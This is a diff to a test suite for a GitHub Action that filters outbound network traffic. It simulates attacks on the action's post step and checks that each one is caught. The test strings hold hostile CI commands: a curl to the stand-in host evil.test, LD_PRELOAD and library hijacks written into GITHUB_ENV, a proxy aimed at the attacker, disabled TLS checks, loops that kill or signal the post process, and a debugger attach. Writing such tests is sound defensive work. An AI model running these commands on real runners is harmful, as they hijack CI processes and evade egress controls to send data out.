@@ -9,6 +9,9 @@ const ACTION = '/home/runner/work/_actions/owner/egress-filter/v1';
 const NODE = '/home/runner/actions-runner/cached/externals/node24/bin/node';
 const DENIED = `curl -sS --max-time 60 https://evil.test/ || true`;
 
+const files = (names: readonly string[]): Record<string, string> =>
+  Object.fromEntries(names.map((name) => [name, readFileSync(join(FIXTURES, name), 'utf8')]));
+
 /** Runs a job in which something is denied and then `attack` is tried; it ends with what was loaded into which program. */
 async function attacked(
   attack: string,
@@ -18,7 +21,7 @@ async function attacked(
     action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } },
     workspace: {
       'payload.c': readFileSync(join(FIXTURES, 'payload.c'), 'utf8'),
-      'debugger.mjs': readFileSync(join(FIXTURES, 'debugger.mjs'), 'utf8'),
+      ...files(['debugger.mjs', 'pipes.py', 'fifo.py', 'signals.py']),
     },
     ...options,
     steps: [{ name: 'denied', run: DENIED }, { name: 'attack', run: `set +e\n${attack}\ntrue` }, ...(options.steps ?? [])],
@@ -119,10 +122,10 @@ describe('GITHUB_ENV and GITHUB_PATH before post', () => {
 
   test('what many set for programs of their own is taken from post: it runs and reports', async () => {
     expectReport(
-      await attacked(`${library}; mkdir /tmp/lib /tmp/bin
+      await attacked(`${library}; mkdir /tmp/lib /tmp/bin; mkfifo /tmp/fifo
         for name in libdl.so.2 libstdc++.so.6 libm.so.6 libgcc_s.so.1 libpthread.so.0 libatomic.so.1; do cp /tmp/payload.so /tmp/lib/$name; done
         for name in node bash sh sudo env; do printf '#!/bin/sh\\necho "$@" post.js >>/tmp/loaded-into\\n' >/tmp/bin/$name; chmod 755 /tmp/bin/$name; done
-        printf 'LD_LIBRARY_PATH=/tmp/lib\\nNODE_PATH=/tmp/lib\\nhttps_proxy=http://${WORLD.evil}:3128\\nHTTPS_PROXY=http://${WORLD.evil}:3128\\nNODE_TLS_REJECT_UNAUTHORIZED=0\\nNODE_EXTRA_CA_CERTS=/tmp/own.pem\\nNODE_V8_COVERAGE=/tmp/coverage\\nHOSTALIASES=/tmp/aliases\\nHOME=/tmp\\nTMPDIR=/nowhere\\n' >>$GITHUB_ENV
+        printf 'LD_LIBRARY_PATH=/tmp/lib\\nNODE_PATH=/tmp/lib\\nhttps_proxy=http://${WORLD.evil}:3128\\nHTTPS_PROXY=http://${WORLD.evil}:3128\\nNODE_TLS_REJECT_UNAUTHORIZED=0\\nNODE_EXTRA_CA_CERTS=/tmp/own.pem\\nNODE_V8_COVERAGE=/tmp/coverage\\nHOSTALIASES=/tmp/aliases\\nHOME=/tmp\\nTMPDIR=/nowhere\\nTZ=:/tmp/fifo\\n' >>$GITHUB_ENV
         echo /tmp/bin >>$GITHUB_PATH`),
     );
   });
@@ -139,29 +142,73 @@ describe('GITHUB_ENV and GITHUB_PATH before post', () => {
 describe('processes of the job beside post', () => {
   const daemon = (command: string): string => `RUNNER_TRACKING_ID= setsid -f ${command} >/dev/null 2>&1 </dev/null`;
 
-  test('one that kills post makes the job fail', async () => {
-    const { job, details } = await attacked(
-      daemon(
-        `bash -c 'while true; do for p in /proc/[0-9]*; do grep -qa action/post.js $p/cmdline 2>/dev/null && kill -9 \${p#/proc/}; done; done'`,
-      ),
-    );
-    expect(job.conclusion, details).toBe('failure');
+  test('one that kills post makes the job fail, where the kernel does not keep it from that: then post reports', async () => {
+    const { job, details } = await attacked(daemon('python3 signals.py 9'), { action: { with: { policy: 'ok.test', 'on-deny': 'log' } } });
+    if (job.step(/^Post owner/).conclusion === 'success') expect(job.page, details).toContain('evil.test');
+    else expect(job.conclusion, details).toBe('failure');
   });
 
-  test('one that opens the debugger of post sends nothing out of it', async () => {
-    const { job, details } = await attacked(daemon(`${NODE} debugger.mjs ${WORLD.evil} 9999`));
-    expect(job.conclusion, details).toBe('failure');
-    expect(reached(job, WORLD.evil)).toEqual([]);
+  test('one that would open the debugger of post gets none, and post reports', async () => {
+    const result = await attacked(daemon(`${NODE} debugger.mjs ${WORLD.evil} 9999`));
+    expect(result.job.step(/^Post owner/).log, result.details).not.toContain('Debugger listening');
+    expectReport(result);
   });
 
-  test('one that wakes post before it was looked at (SIGCONT) gains nothing', async () => {
-    const { job, details } = await attacked(
-      daemon(
-        `bash -c 'while true; do for p in /proc/[0-9]*; do grep -qa action/post.js $p/cmdline 2>/dev/null && kill -CONT \${p#/proc/}; done; done'`,
-      ),
-    );
-    expect(job.conclusion, details).toBe('failure');
-    expect(reached(job, WORLD.evil)).toEqual([]);
+  test('one that would write into its pipes opens none, and post reports', async () => {
+    expectReport(await attacked(daemon('python3 pipes.py')));
+  });
+
+  test('one that puts a FIFO in the place of the file for its summary makes the job fail, and not wait', async () => {
+    const result = await attacked(daemon(`python3 fifo.py '_runner_file_commands/step_summary_*'`));
+    const { log, conclusion } = result.job.step(/^Post owner/);
+    expect(conclusion, result.details).toBe('failure');
+    expect(log, result.details).toMatch(/The summary of the job could not be written: .*step_summary_/);
+    expect(log, result.details).toMatch(/on-deny is fail-job/);
+  });
+
+  test('one that puts a FIFO in the place of the event, which packages of the upload would read, changes nothing', async () => {
+    const result = await attacked(daemon(`python3 fifo.py _github_workflow/event.json`));
+    expectReport(result);
+    expect(result.job.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
+  });
+
+  /** Whatever came of post, the job has failed, and nothing has left; what woke it in time is told in the log. */
+  async function neverGreen(attack: string, { inTime = true } = {}): Promise<void> {
+    const running = await startJob({
+      action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } },
+      workspace: files(['impostor.c', 'quick.c', 'signals.py', 'wake.py']),
+      completionMs: 2000,
+      steps: [
+        { name: 'denied', run: DENIED },
+        { name: 'attack', run: attack },
+      ],
+    });
+    try {
+      const job = await running.completed();
+      expect(job.conclusion, transcript(job)).toBe('failure');
+      expect(reached(job, WORLD.evil)).toEqual([]);
+      const told = (): true | undefined => running.log().some(({ error }) => error === 'tampering') || undefined;
+      if (inTime) await running.machine.until('the line of the guard', told);
+    } finally {
+      await running.stop();
+    }
+  }
+
+  test.skipIf(process.arch !== 'x64')(
+    'one that wakes post, and a library in it that hides before it is looked at (its code is for x64)',
+    async () => {
+      await neverGreen(`gcc -shared -fPIC -O1 -DEVIL='"${WORLD.evil}"' -o /tmp/impostor.so impostor.c || exit 7
+      ${daemon('python3 wake.py')}; echo LD_PRELOAD=/tmp/impostor.so >>$GITHUB_ENV`);
+    },
+  );
+
+  test('one that wakes post, and a library that ends it with success before it is looked at', async () => {
+    await neverGreen(`gcc -shared -fPIC -o /tmp/quick.so quick.c || exit 7
+      ${daemon('python3 wake.py')}; echo LD_PRELOAD=/tmp/quick.so >>$GITHUB_ENV`);
+  });
+
+  test('one that wakes post before it was looked at (SIGCONT)', async () => {
+    await neverGreen(daemon('python3 signals.py 18'), { inTime: false });
   });
 });
 
